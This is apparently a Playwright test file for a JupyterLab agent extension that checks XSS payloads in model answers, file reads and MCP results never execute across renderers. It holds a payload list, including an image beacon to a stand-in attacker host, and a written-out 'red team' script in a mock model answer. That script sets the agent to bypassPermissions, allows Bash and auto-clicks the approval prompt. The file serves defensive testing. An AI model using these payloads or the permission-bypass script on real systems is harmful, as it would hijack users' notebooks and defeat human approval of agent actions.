"""Nothing the model, a tool or an MCP server writes runs in the page, in every renderer.

Public XSS payloads (`brs-kb`, read at test time: a sample that holds every one of its ~150
contexts) go through a real `%%agent` cell in JupyterLab with the extension, in Chromium: as
the model's answer (streamed, then final), as Read results (files holding them), as an MCP
server's results (the tests' demo server, a real process, echoes them) and so in the cards'
inputs and titles, in `%agent request` and in the timeline. The saved notebook (signed, so
trusted) is then reopened in JupyterLab and in Notebook 7 without the extension (the
``text/html`` path that VS Code shows too), and its nbconvert HTML export is opened as a file.

A script that ran is caught three ways: `alert`, `confirm`, `prompt` and `print` are
replaced in every frame before the page's own scripts run, a real dialog is recorded, and
every request is watched (a write to the server's contents API, or any host but the
server's). A control injects one payload through the page's own DOM at the end and must be
caught, so the watch itself is shown to work.

The red team's attack is a cell of its own: an answer whose script would write
`.toolhost/settings.local.json` (bypassPermissions, allow Bash) through the server's REST
API with the page's token and click the cell's own **Allow**. The file is not written and
the prompt waits until the test denies it.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from kernel_helpers import DEMO_MCP_SERVER
from lab_browser import (
    IDLE,
    TOKEN,
    Lab,
    new_page,
    open_notebook,
    require_browser,
    run_all,
    running_lab,
    write_notebook,
)
from xss_payloads import NORMAL_ANSWER, contexts, sample

from jupyter_toolhost.testing import Turn, text, tool_use

require_browser()  # skips the module (fails under CI=true) without chromium or playwright

pytestmark = pytest.mark.timeout(300)

NAMED = [
    "$\\href{javascript:alert(1)}{math link}$",
    "$$\\href{javascript:alert(1)}{display math link}$$",
    "[markdown link](javascript:alert(1))",
    "![remote image](https://attacker.example/pixel.png?q=secret)",
    "<style>body{display:none}</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]
"""Attacks the issue names, beside the public list (math links: MathJax typesets every
HTML output's ``$…$``)."""
PAYLOADS = NAMED + [p.text for p in sample(300)]
CHUNK_CHARS = 1_800
"""Payloads per tool result: a card shows the first 2,000 characters of a result."""
ECHO = "mcp__demo__echo"
SETTINGS = ".toolhost/settings.local.json"
NORMAL = NORMAL_ANSWER
ATTACK = (
    "const s=JSON.stringify({permissions:{defaultMode:'bypassPermissions',allow:['Bash']}});"
    "const app=window.jupyterapp;"
    "app.serviceManager.contents.save('.toolhost/settings.local.json',"
    "{type:'file',format:'text',content:s}).catch(()=>0);"
    "app.shell.currentWidget.sessionContext.session.kernel.requestExecute({code:"
    "'import pathlib;p=pathlib.Path(\\'.toolhost/settings.local.json\\');"
    "p.parent.mkdir(exist_ok=True);p.write_text(\\''+s+'\\')'});"
    "setInterval(()=>{for(const b of document.querySelectorAll('button'))"
    "{if(b.textContent.trim()==='Allow once')b.click()}},200)"
)
"""The red team's script: write the settings through the contents API (a server that shows
hidden files takes it) and through the notebook's own kernel, then click Allow."""
RED_TEAM = (
    "Here is the summary you asked for.\n\n"
    f'<img src=x onerror="{ATTACK}">\n\n'
    f"<script>{ATTACK}</script>\n\n"
    f'<details open ontoggle="{ATTACK}"><summary>details</summary>more</details>\n\n'
    f"[the report](javascript:{ATTACK})\n"
)
WATCH = """
(() => {
  window.__xss = [];
  const mark = how => function (...args) {
    window.__xss.push(how + ': ' + String(args[0]).slice(0, 80));
  };
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    try { window[name] = mark(name); } catch (e) {}
  }
})();
"""
SCAN = """
() => {
  const found = [];
  const bad = new Set(['SCRIPT', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'FORM', 'META', 'BASE',
                       'LINK', 'STYLE', 'FOREIGNOBJECT', 'ANIMATE', 'SET']);
  for (const area of document.querySelectorAll('.jp-OutputArea-output, .output_area')) {
    for (const node of area.querySelectorAll('*')) {
      if (bad.has(node.tagName.toUpperCase())) found.push('element ' + node.tagName);
      for (const attr of node.attributes) {
        if (attr.name.toLowerCase().startsWith('on')) found.push(node.tagName + ' ' + attr.name);
        const v = attr.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
        if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attr.name.toLowerCase())
            && /^(javascript|vbscript|data:text|data:image\\/svg)/.test(v)) {
          found.push(node.tagName + ' ' + attr.name + '=' + attr.value.slice(0, 60));
        }
      }
    }
  }
  return found;
}
"""
RENDERED = """
() => {
  const answers = [...document.querySelectorAll('.jp-OutputArea-output, .output_area')]
    .filter(n => n.querySelector('h2') && n.querySelector('table'));
  const a = answers[0];
  if (!a) return null;
  return {
    heading: a.querySelector('h2').textContent,
    cell: a.querySelector('table td:last-child').textContent,
    code: a.querySelector('pre code') && a.querySelector('pre code').textContent,
    link: a.querySelector('a[href="https://pandas.pydata.org/docs/"]') !== null,
    items: a.querySelectorAll('li').length,
    bold: a.querySelector('strong') && a.querySelector('strong').textContent,
  };
}
"""
SHOWN_AS_TEXT = "() => document.body.innerText.includes('onerror')"


def _chunks(texts: list[str]) -> list[str]:
    chunks: list[str] = []
    current = ""
    for payload in texts:
        line = payload[: CHUNK_CHARS - 1]
        if current and len(current) + len(line) + 1 > CHUNK_CHARS:
            chunks.append(current)
            current = ""
        current += line + "\n"
    return [*chunks, current] if current else chunks


CHUNKS = _chunks(PAYLOADS)


def _answer(texts: list[str]) -> str:
    return "\n\n".join(texts)


def _turns() -> list[Turn]:
    half = len(PAYLOADS) // 2
    reads = [tool_use("Read", {"file_path": f"payloads-{i:02d}.txt"}) for i in range(len(CHUNKS))]
    echoes = [tool_use(ECHO, {"text": chunk}) for chunk in CHUNKS]
    return [
        Turn([text(_answer(PAYLOADS[:half])), *reads]),
        Turn([tool_use("ToolSearch", {"query": f"select:{ECHO}"})]),
        Turn(echoes),
        Turn([text(NORMAL + "\n\n" + _answer(PAYLOADS[half:]))]),
        Turn([text(RED_TEAM), tool_use("Write", {"file_path": "notes.txt", "content": "x"})]),
        Turn([text("Stopped: nothing written.")]),
    ]


CELLS = (
    "%load_ext jupyter_toolhost",
    "%%agent --mode bypassPermissions\nRead the payload files and echo them.",
    "%agent request",
    "%agent history --timeline",
    "%%agent --mode default\nSummarise, then write notes.txt.",
)
"""The sources of the notebook's code cells."""


@dataclass
class Watch:
    """What a page did that a script would have done."""

    page: Any
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def findings(self) -> list[str]:
        marks = self.page.evaluate("() => window.__xss || []")
        return [*marks, *self.dialogs, *self.requests]

    def control(self) -> None:
        """One payload through the page's own DOM must be caught: the watch works."""
        self.page.evaluate(
            "() => document.body.insertAdjacentHTML('beforeend',"
            " '<img src=x onerror=\"alert(\\'control\\')\">')"
        )
        self.page.wait_for_function("() => (window.__xss || []).length > 0", timeout=10_000)
        assert any("control" in f for f in self.findings())


def watch(page: Any, *, allowed_hosts: tuple[str, ...] = ("127.0.0.1",)) -> Watch:
    """Install the traps on `page` before it loads anything."""
    seen = Watch(page)
    page.add_init_script(WATCH)

    def on_dialog(dialog: Any) -> None:
        if dialog.type != "beforeunload":
            seen.dialogs.append(f"dialog {dialog.type}: {dialog.message[:80]}")
        dialog.dismiss()

    def on_request(request: Any) -> None:
        url = request.url
        host = re.match(r"^[a-z]+://([^/:]*)", url)
        if ("/api/contents" in url and request.method != "GET" and "settings" in url) or (
            host and url.startswith(("http:", "https:")) and host.group(1) not in allowed_hosts
        ):
            seen.requests.append(f"{request.method} {url}")

    page.on("dialog", on_dialog)
    page.on("request", on_request)
    return seen


def _assert_safe_and_formatted(seen: Watch, where: str) -> None:
    page = seen.page
    assert seen.findings() == [], (where, seen.findings())
    assert page.evaluate(SCAN) == [], (where, page.evaluate(SCAN))
    rendered = page.evaluate(RENDERED)
    assert rendered is not None, f"{where}: the normal Markdown answer is not formatted"
    assert rendered["heading"] == "Results" and rendered["cell"] == "84.7", (where, rendered)
    assert rendered["code"].strip() == 'df.groupby("class").mean()', (where, rendered)
    assert rendered["link"] and rendered["items"] >= 2 and rendered["bold"] == "bold", rendered
    assert page.evaluate(SHOWN_AS_TEXT), f"{where}: the payloads are not on the page as text"
    seen.control()


@dataclass
class Recorded:
    lab: Lab
    notebook: Path
    data_dir: Path
    live: list[str]


@pytest.fixture(scope="module")
def recorded(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Recorded]:
    """The notebook run live in JupyterLab (with the extension), checked, and saved."""

    base = tmp_path_factory.mktemp("xss")
    data_dir = base / "data"
    with running_lab(
        base, log_name="jupyter-lab-xss.log", env={"JUPYTER_DATA_DIR": str(data_dir)}
    ) as lab:
        home = lab.root.parent / "home"
        (home / ".toolhost").mkdir()
        server = {"command": sys.executable, "args": [str(DEMO_MCP_SERVER)]}
        (home / ".toolhost" / "settings.json").write_text(
            json.dumps({"mcpServers": {"demo": server}})
        )
        for i, chunk in enumerate(CHUNKS):
            (lab.root / f"payloads-{i:02d}.txt").write_text(chunk)
        write_notebook(lab.root / "xss.ipynb", *CELLS)
        lab.server.add_turns(*_turns())
        with new_page(browser, lab, "xss-live") as page:
            seen = watch(page)
            open_notebook(page, lab, "xss.ipynb")
            run_all(page)
            cells = page.locator(".jp-Notebook .jp-CodeCell")
            cells.nth(1).locator(".jp-Toolhost-footer").wait_for(timeout=120_000)
            cells.nth(3).locator("svg.toolhost-timeline").wait_for(timeout=60_000)
            red_team = cells.nth(4)
            allow = red_team.get_by_role("button", name="Allow once", exact=True)
            # The prompt shows, or a script answers it first, or scripts run before it.
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline and not (
                allow.count() or (lab.root / "notes.txt").exists() or seen.findings()
            ):
                page.wait_for_timeout(250)
            page.wait_for_timeout(3_000)  # the attack polls for the button every 0.2 s
            attack = {
                "settings written": (lab.root / SETTINGS).exists(),
                "prompt answered": allow.count() == 0 or not allow.is_enabled(timeout=2_000),
                "notes.txt written": (lab.root / "notes.txt").exists(),
                "script ran": seen.findings(),
            }
            assert attack == {
                "settings written": False,
                "prompt answered": False,
                "notes.txt written": False,
                "script ran": [],
            }
            red_team.get_by_role("button", name="Deny", exact=True).click()
            red_team.get_by_text("Stopped: nothing written.").wait_for(timeout=60_000)
            page.wait_for_function(IDLE)
            assert not (lab.root / SETTINGS).exists()
            live = seen.findings() + page.evaluate(SCAN)
            _assert_safe_and_formatted(seen, "JupyterLab, live")
            # The cards hold the tool and MCP results (as text): every chunk reached the page.
            assert page.locator(".jp-Toolhost-card").count() >= 2 * len(CHUNKS)
            page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
            page.wait_for_function(
                "() => !window.jupyterapp.shell.currentWidget.context.model.dirty",
                timeout=20_000,
            )
        assert lab.server.errors == []
        yield Recorded(lab, lab.root / "xss.ipynb", data_dir, live)


def test_the_sample_holds_every_kind_of_payload() -> None:
    assert {p.context for p in sample(300)} == contexts()


def test_nothing_runs_live_in_jupyterlab_and_the_red_team_attack_fails(
    recorded: Recorded,
) -> None:
    assert recorded.live == []
    assert not (recorded.lab.root / SETTINGS).exists()
    saved = recorded.notebook.read_text()
    assert "text/markdown" not in saved
    assert "Stopped: nothing written." in saved


def test_nothing_runs_when_the_saved_notebook_is_reopened(browser: Any, recorded: Recorded) -> None:
    with new_page(browser, recorded.lab, "xss-reopened") as page:
        seen = watch(page)
        open_notebook(page, recorded.lab, "xss.ipynb")
        page.locator(".jp-Toolhost-footer").first.wait_for(timeout=60_000)
        trusted = page.evaluate(
            "() => { const m = window.jupyterapp.shell.currentWidget.content.model;"
            " return [...Array(m.cells.length).keys()].map(i => m.cells.get(i).trusted); }"
        )
        assert all(trusted), f"the saved notebook should be trusted: {trusted}"
        page.wait_for_timeout(2_000)
        _assert_safe_and_formatted(seen, "JupyterLab, reopened")
    assert not (recorded.lab.root / SETTINGS).exists()


def test_nothing_runs_in_notebook_7_from_the_html(
    browser: Any, recorded: Recorded, tmp_path: Path
) -> None:
    with running_lab(
        tmp_path,
        log_name="jupyter-notebook-xss.log",
        app="notebook",
        without_extension=True,
        env={"JUPYTER_DATA_DIR": str(recorded.data_dir)},  # the same signatures: trusted
    ) as notebook7:
        shutil.copy(recorded.notebook, notebook7.root / "xss.ipynb")
        with new_page(browser, notebook7, "xss-notebook7") as page:
            seen = watch(page)
            page.goto(f"{notebook7.url}/notebooks/xss.ipynb?token={TOKEN}")
            page.locator(".jp-OutputArea-output table").first.wait_for(timeout=60_000)
            assert page.locator(".jp-Toolhost-card").count() == 0  # the text/html path
            trusted = page.evaluate(
                "() => { const m = window.jupyterapp.shell.currentWidget.content.model;"
                " return [...Array(m.cells.length).keys()].map(i => m.cells.get(i).trusted); }"
            )
            assert all(trusted), f"the copied notebook should be trusted: {trusted}"
            page.wait_for_timeout(2_000)
            _assert_safe_and_formatted(seen, "Notebook 7")
        assert not (notebook7.root / SETTINGS).exists()


def test_nothing_runs_in_the_html_export(browser: Any, recorded: Recorded, tmp_path: Path) -> None:
    exported = subprocess.run(
        [sys.executable, "-m", "nbconvert", "--to", "html", "--output-dir", str(tmp_path),
         str(recorded.notebook)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert exported.returncode == 0, exported.stderr
    page_file = tmp_path / "xss.html"
    head = page_file.read_text().split("<body", 1)[0]
    template_hosts = tuple(set(re.findall(r'(?:src|href)="https?://([^/:"]+)', head)))
    context = browser.new_context(viewport={"width": 1280, "height": 1000})
    try:
        page = context.new_page()
        seen = watch(page, allowed_hosts=template_hosts)
        context.route(re.compile(r"^https?://"), lambda route: route.abort())  # offline
        page.goto(page_file.as_uri(), wait_until="domcontentloaded")
        page.wait_for_timeout(2_000)
        _assert_safe_and_formatted(seen, "nbconvert export")
    finally:
        context.close()
